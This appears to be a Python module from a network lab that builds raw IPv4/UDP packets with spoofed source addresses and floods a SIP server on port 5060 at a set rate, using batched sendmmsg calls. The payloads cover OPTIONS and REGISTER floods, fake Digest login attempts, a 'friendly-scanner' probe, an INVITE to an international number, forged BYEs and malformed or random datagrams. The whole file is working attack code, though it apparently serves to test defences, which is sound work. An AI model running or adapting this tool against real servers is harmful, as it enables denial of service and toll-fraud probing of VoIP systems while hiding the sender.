"""Sends UDP datagrams in the name of others, many in one system call; run as a program in the attackers' namespace.

    python3 -m lab.attack_spoof TARGET NETWORK COUNT RATE KIND

NETWORK is where the senders are (an address alone is a network of one); KIND a name of KINDS. It prints one line of
JSON: how many went out, and in how many seconds.
"""

import ctypes
import ipaddress
import json
import os
import random
import secrets
import socket
import struct
import sys
import time

BATCH = 64
# How many different datagrams there are; they are sent again and again.
DISTINCT = 4096
libc = ctypes.CDLL(None, use_errno=True)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class Header(ctypes.Structure):
    _fields_ = [
        ("name", ctypes.c_void_p), ("name_length", ctypes.c_uint32), ("vectors", ctypes.POINTER(Vector)),
        ("vector_count", ctypes.c_size_t), ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t),
        ("flags", ctypes.c_int), ("padding", ctypes.c_int), ("sent", ctypes.c_uint),
    ]  # fmt: skip


def request(method: str, target: str, source: str, port: int, *extra: str) -> bytes:
    lines = [
        f"{method} sip:{target} SIP/2.0",
        f"Via: SIP/2.0/UDP {source}:{port};branch=z9hG4bK{secrets.token_hex(8)}",
        "Max-Forwards: 70",
        f"From: <sip:1001@{target}>;tag={secrets.token_hex(4)}",
        f"To: <sip:1001@{target}>",
        f"Call-ID: {secrets.token_hex(8)}",
        f"CSeq: 1 {method}",
        f"Contact: <sip:1001@{source}:{port}>",
        *extra,
        "Content-Length: 0",
    ]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def _digest(target: str) -> str:
    values = f'username="1001", realm="asterisk", nonce="{secrets.token_urlsafe(18)}", uri="sip:{target}"'
    return f'Authorization: Digest {values}, response="{secrets.token_hex(16)}", algorithm=MD5, qop=auth, nc=00000001, cnonce="a"'


def payload(kind: str, target: str, source: str, port: int) -> bytes:
    """One datagram of a kind."""
    if kind == "mixed":
        kind = random.choice(KINDS[1:])
    if kind == "options":
        return request("OPTIONS", target, source, port)
    if kind == "register":
        return request("REGISTER", target, source, port)
    if kind == "guess":
        return request("REGISTER", target, source, port, _digest(target))
    if kind == "scanner":
        return request("OPTIONS", target, source, port, "User-Agent: friendly-scanner")
    if kind == "invite":
        return request("INVITE", f"00442071838750@{target}", source, port)
    if kind == "forged":
        return request("BYE", f"{secrets.token_urlsafe(42)}@{target}", source, port)
    if kind == "malformed":
        return request("OPTIONS", target, source, port, "X-Note : a", "CSeq: x")
    return secrets.token_bytes(200)


KINDS = ["mixed", "options", "register", "guess", "scanner", "invite", "forged", "malformed", "garbage"]


def packet(source: str, target: str, content: bytes, port: int) -> bytes:
    """An IPv4 packet; the kernel fills in its checksum and length, and UDP may go without one (RFC 768)."""
    udp = struct.pack("!HHHH", port, 5060, 8 + len(content), 0) + content
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0)
    return ip + socket.inet_aton(source) + socket.inet_aton(target) + udp


def main() -> None:
    target, network, count, rate, kind = sys.argv[1], ipaddress.ip_network(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
    kept = []
    for _ in range(DISTINCT):
        source = str(network[random.randrange(network.num_addresses)])
        port = random.randrange(1024, 65536)
        kept.append(ctypes.create_string_buffer(packet(source, target, payload(kind, target, source, port), port)))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    name = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H", 0) + socket.inet_aton(target) + bytes(8))
    vectors = (Vector * DISTINCT)(*[Vector(ctypes.addressof(each), len(each) - 1) for each in kept])
    headers = (Header * DISTINCT)()
    for place in range(DISTINCT):
        vector = ctypes.pointer(vectors[place])
        headers[place] = Header(ctypes.addressof(name), 16, vector, 1, None, 0, 0, 0, 0)
    sent, began, size = 0, time.monotonic(), ctypes.sizeof(Header)
    while sent < count:
        due = min(int((time.monotonic() - began) * rate), count)
        while sent < due:
            place = sent % DISTINCT
            wanted = min(BATCH, due - sent, DISTINCT - place)
            done = libc.sendmmsg(raw.fileno(), ctypes.byref(headers, place * size), wanted, 0)
            if done < 0:
                raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
            sent += done
        time.sleep(0.0005)
    print(json.dumps({"sent": sent, "seconds": time.monotonic() - began}))


if __name__ == "__main__":
    main()
